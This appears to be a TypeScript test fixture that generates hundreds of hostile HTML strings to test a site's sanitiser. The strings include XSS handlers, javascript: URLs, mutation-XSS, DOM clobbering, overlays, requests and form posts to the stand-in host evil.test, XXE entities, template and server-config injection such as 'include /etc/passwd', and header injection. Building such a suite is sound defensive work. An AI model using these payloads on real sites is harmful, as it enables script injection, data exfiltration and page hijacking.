/**
 * Texts that a hostile backend may send. If the site showed one as HTML as it is, it would call `ran()`, request
 * `https://evil.test/{its number}`, cover the page or lead away from it.
 *
 * No picture with an address in `src` is among them: pictures of other sites are allowed in long texts.
 */

const EVIL = 'https://evil.test/'
/** An address that fails at once, without a request. */
const BROKEN = 'data:,'
const IMAGE = `<img src=${BROKEN} onerror=ran()>`
const SCRIPT = '<script>ran()</script>'
const LINK = '<a href="javascript:ran()">x</a>'
/** As CSS. */
const COVER = 'position:fixed;inset:0;z-index:2147483647;background:red'

/** Every item of a table with every item of another one. */
const each = <A, B>(one: readonly A[], other: readonly B[], write: (a: A, b: B) => string) =>
  one.flatMap((a) => other.map((b) => write(a, b)))

const handlers = each(
  [
    `img src="${BROKEN}"`,
    `img/src="${BROKEN}"/`,
    `video src="${BROKEN}"`,
    'svg',
    'body',
    'input autofocus',
    'details open',
    'p style="animation:x 1s;content-visibility:auto"',
    'a href="#" tabindex=1',
    'custom-element contenteditable',
    'math',
  ],
  [
    'onerror=ran()',
    'ONLOAD="ran()"',
    "onfocus='ran()' autofocus",
    'ontoggle\n=\nran()',
    'onanimationstart=ran``',
    'onpointerover=&#114;an()',
    'oncontentvisibilityautostatechange=ran(1)',
    'title="a>b" onload=ran()',
  ],
  (element, handler) => `<${element} ${handler}>x`,
)

const addresses = each(
  [
    'javascript:ran()',
    'JaVaScRiPt:ran()//https://example.fr/',
    ' \u0001javascript:ran()',
    'java\tscript:ran()',
    'java&Tab;scri&NewLine;pt&colon;ran()',
    '&#106&#x61vascript:ran()',
    'javascript\u00a0:ran()',
    'vbscript:ran()',
    'data:text/html,<script>parent.ran()</script>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
    'blob:https://evil.test/',
    'https:/\\/evil.test\\@example.fr/',
  ].map((address) => address.replaceAll('"', '&quot;')),
  [
    (address) => `<a href="${address}" target=_top>x</a>`,
    (address) => `<map><area href="${address}" coords=0,0,9999,9999></map>`,
    (address) => `<form action="${address}"><input type=image></form>`,
    (address) => `<button form=x formaction="${address}">x</button>`,
    (address) => `<iframe src="${address}"></iframe>`,
    (address) => `<object data="${address}"></object>`,
    (address) => `<embed src="${address}">`,
    (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
    (address) => `<math href="${address}"><mi xlink:href="${address}">x</mi></math>`,
    (address) => `<base href="${address}">`,
    (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  ] satisfies ((address: string) => string)[],
  (address, write) => write(address),
)

/** In each of these, HTML is read in another way, or was not meant to be read. */
const parsing = each(
  [
    ['<svg>', '</svg>'],
    ['<svg><desc>', '</desc></svg>'],
    ['<svg><foreignObject>', '</foreignObject></svg>'],
    ['<svg><style>', '</style></svg>'],
    ['<math><mtext>', '</mtext></math>'],
    ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
    ['<table>', '</table>'],
    ['<table><caption><select>', '</select></caption></table>'],
    ['<select><option>', '</option></select>'],
    ['<template shadowrootmode=open>', '</template>'],
    ['<noscript>', '</noscript>'],
    ['<noscript><p title="</noscript>', '">'],
    ['<textarea>', '</textarea>'],
    ['<textarea></textarea/x>', ''],
    ['<title>', '</title>'],
    ['<xmp></xmp x>', ''],
    ['<plaintext>', ''],
    ['<noframes></noframes>', ''],
    ['<iframe srcdoc="', '">'],
    ['<!-- --!>', '-->'],
    ['<!-->', '-->'],
    ['<?php ', '?>'],
    ['<svg><![CDATA[', ']]></svg>'],
    ['<style></style\t>', '</style>'],
    ['<p title="', '">'],
    ["<p title='", "'>"],
    ['"><p>', ''],
    ["'><p>", ''],
    ['</p></div></main></body></html>', ''],
    ['</title></textarea></style></script>', ''],
    ['<b>'.repeat(70), ''],
  ] as const,
  [IMAGE, SCRIPT, LINK],
  ([before, after], inner) => `${before}${inner}${after}`,
)

/** Harmless when read once, not when written and read a second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${IMAGE}">`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<svg><p><style><g title="</style>${IMAGE}">`,
  `<math><annotation-xml encoding="text/html"><p><style><!--</style><g title="--&gt;${IMAGE}">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=${BROKEN} onerror='ran()'>">`,
  `<table><tr><td><svg><desc><table></svg><style><a title="</style>${IMAGE}">`,
  `<noembed><p title="</noembed>${IMAGE}">`,
  `<p><noscript><style title="</noscript>${IMAGE}"></style>`,
  `<template><s><template><s>${IMAGE}</s></template></s></template>`,
  `<select><template><math><mtext><style><!--</style>${IMAGE}`,
  `<a href="x" title="&lt;/a&gt;${IMAGE.replaceAll('<', '&lt;')}">x</a>`,
  `<a><p><a><p>${IMAGE}`,
  `<table><a href=x>${IMAGE}<td></a><table>${IMAGE}`,
  `<pre>\n\n${IMAGE}</pre>`,
  `<img alt="\`\`onerror=ran()" src="${BROKEN}">`,
  `<scr<script>ipt>ran()</scr</script>ipt>`,
  `<style<style></style>>${SCRIPT}`,
  `<p style="x"onload="<script>"src="y">${SCRIPT}`,
  `<img style="a" style='b' on on=1 src=${BROKEN} onerror\u000c=ran()>`,
  `\ufeff<\u0000script>ran()</\u0000script>${SCRIPT.replaceAll('s', 'ſ')}`,
  `&lt;script&gt;ran()&lt;/script&gt;&amp;lt;img src=x onerror=ran()&amp;gt;`,
]

/** Names that would hide properties of the document, which the site and its sanitiser read. */
const clobbering = each(
  ['img', 'form', 'a', 'iframe', 'object', 'embed'],
  [
    'root',
    'page-content',
    'boot',
    'body',
    'getElementById',
    'implementation',
    'currentScript',
    'attributes',
    '__proto__',
  ],
  (element, name) => `<${element} id="${name}" name="${name}" src="${BROKEN}"><input name="${name}">x`,
)

const overlays = [
  `<div style="${COVER}">x</div>`,
  `<p style='${COVER}'>x</p>`,
  `<a href="/contact" style=${COVER}>x</a>`,
  `<style>*{${COVER}}</style>x`,
  `<svg><style>*{${COVER}}</style></svg>`,
  `<link rel=stylesheet href="data:text/css,*{${COVER}}">`,
  `<dialog open style="${COVER}">x</dialog>`,
  `<div popover id=p style="${COVER}">x</div><button popovertarget=p autofocus>x</button>`,
  '<p class="sc-a sc-b header fixed modal" id="root" role="dialog" aria-modal="true">x</p>',
  '<a href="/contact" role="button" tabindex="1" accesskey="a" autofocus>x</a>',
  '<p aria-hidden=true hidden inert data-draft=x>x</p>',
  `<img src="${BROKEN}" width="99999999" height="99999999" border=9999 hspace=9999 vspace=9999 align=left>`,
  `<img src="${BROKEN}" width="10000" height="10000">`.repeat(3),
  `<table width=99999 height=99999 cellpadding=9999 bgcolor=red><tr><td colspan=1000 rowspan=65534 height=99999>x`,
  '<font size=7><marquee width=9999 height=9999 scrollamount=999>x</marquee></font>',
  '<ol start=999999999999><li value=999999999>x</li></ol><hr size=99999 width=99999>',
  `<layer z-index=99 width=9999>x</layer><blink>x</blink><center><spacer type=block width=9999 height=9999>`,
  `<sup>${'<sup>'.repeat(50)}x`,
  'e\u0301\u0302\u0303'.repeat(60),
  '\u202e\u2066\u200f'.repeat(20) + 'x',
  'W'.repeat(3_000),
  '</svg><svg transform="translate(-500 -500) scale(5000)" viewBox="0 0 1 1"><path d="M0 0h1v1H0z"/></svg><svg>',
  '</svg><svg width="9999" height="9999" style="position:fixed;inset:0"><rect width="9999" height="9999"/></svg>',
  '<svg overflow="visible" width="9999" height="9999" x="-5000"><rect width="9999" height="9999"/></svg>',
]

const requests = [
  `<img src="${BROKEN}" srcset="${EVIL} 1x, ${EVIL} 2000w">`,
  `<img src="${BROKEN}" longdesc="${EVIL}" lowsrc="${EVIL}" dynsrc="${EVIL}" usemap="${EVIL}">`,
  `<picture><source srcset="${EVIL}"><img src="${BROKEN}"></picture>`,
  `<video poster="${EVIL}" src="${EVIL}" autoplay><track default src="${EVIL}"></video>`,
  `<audio autoplay><source src="${EVIL}"></audio>`,
  `<input type=image src="${EVIL}">`,
  ...['table', 'td', 'th', 'body', 'tr'].map((name) => `<table><tr><${name} background="${EVIL}">x</table>`),
  ...[
    'stylesheet',
    'preload',
    'prefetch',
    'modulepreload',
    'preconnect',
    'dns-prefetch',
    'icon',
    'manifest',
  ].map((rel) => `<link rel="${rel}" as=image href="${EVIL}">`),
  ...['iframe', 'embed', 'frame', 'portal', 'fencedframe', 'script', 'bgsound'].map(
    (name) => `<${name} src="${EVIL}"></${name}>`,
  ),
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<object data="${EVIL}"><param name=movie value="${EVIL}"></object><applet code="${EVIL}" archive="${EVIL}">`,
  `<meta http-equiv=refresh content="0;${EVIL}"><meta http-equiv=Link content="<${EVIL}>; rel=preload">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'none'; report-uri ${EVIL}">`,
  `<base href="${EVIL}"><img src=x><a href=x>x</a>`,
  `<form action="${EVIL}" method=post><input name=mobile autofocus><button>Envoyer</button></form>`,
  `<form id=f action="${EVIL}"></form><button form=f>x</button><input form=f type=submit>`,
  `<a href="#" ping="${EVIL}" attributionsrc="${EVIL}" download>x</a>`,
  `<p style="background:url(${EVIL})">x</p>`,
  `<p style=list-style-image:url(${EVIL});display:list-item>x</p>`,
  `<style>@import "${EVIL}";@font-face{font-family:x;src:url(${EVIL})}body{font-family:x}</style>`,
  `<svg><image href="${EVIL}" xlink:href="${EVIL}" width=9 height=9 /></svg>`,
  `<svg><use href="${EVIL}#a"/><feImage href="${EVIL}"/><script href="${EVIL}"/></svg>`,
  `<svg><path d="M0 0h9v9z" fill="url(${EVIL}#a)" stroke='URL("${EVIL}")' filter="url(${EVIL})"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:ran()"/><set attributeName=onload to=ran()></a></svg>`,
  `<html manifest="${EVIL}"><head profile="${EVIL}">`,
  `<blockquote cite="${EVIL}"><q cite="${EVIL}">x</q><del cite="${EVIL}">x</del></blockquote>`,
  `<link rel=import href="${EVIL}"><?xml-stylesheet href="${EVIL}"?>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}"]}]}</script>`,
  `<script type=importmap>{"imports":{"/":"${EVIL}"}}</script>`,
]

/** What would end, or mean more in, the place that the build writes a text to. */
const breakers = [
  `</script>${SCRIPT}`,
  `<!--<script>${SCRIPT}`,
  `-->${SCRIPT}<!--`,
  `]]>${SCRIPT}<![CDATA[`,
  `\u2028ran()\u2029`,
  `"}</script>${IMAGE}{"`,
  `\\"}];ran();//\\u003cscript>`,
  `</title>${SCRIPT}<title>`,
  `</style>${SCRIPT}<style>`,
  `</loc></url>&x;<!DOCTYPE x [<!ENTITY x SYSTEM "${EVIL}">]>`,
  '\u0000\u0001\u000b\u001f\u007f\ufffe\uffff\ud800x',
  `{{constructor.constructor('ran()')()}}\${ran()}<%= ran() %>#{ran()}`,
  `$uri $1 $& $\` $' $request_body`,
  `";} location / { return 301 ${EVIL}; } #`,
  `\n/* ${EVIL} 301!\n# x\r\nX-Injected: yes`,
  `\\"; include /etc/passwd;`,
  '{$HOME} {env.HOME} {http.request.uri} `{path}`',
  `~^/.*$`,
  `:splat * ?x=:x ${EVIL}:splat 200`,
  `//evil.test/`,
  `/\\evil.test/..;/%2e%2e/%2f%2fevil.test/%00%0d%0a`,
  `..%5c..%5cevil.test`,
  `\r\nSet-Cookie: a=b`,
]

/** Each names the others of its number, so that a request tells which one it comes from. */
export const hostileHtml: readonly string[] = [
  ...handlers,
  ...addresses,
  ...parsing,
  ...mutations,
  ...clobbering,
  ...overlays,
  ...requests,
  ...breakers,
].map((html, index) => html.replaceAll('evil.test/', `evil.test/${index}`))
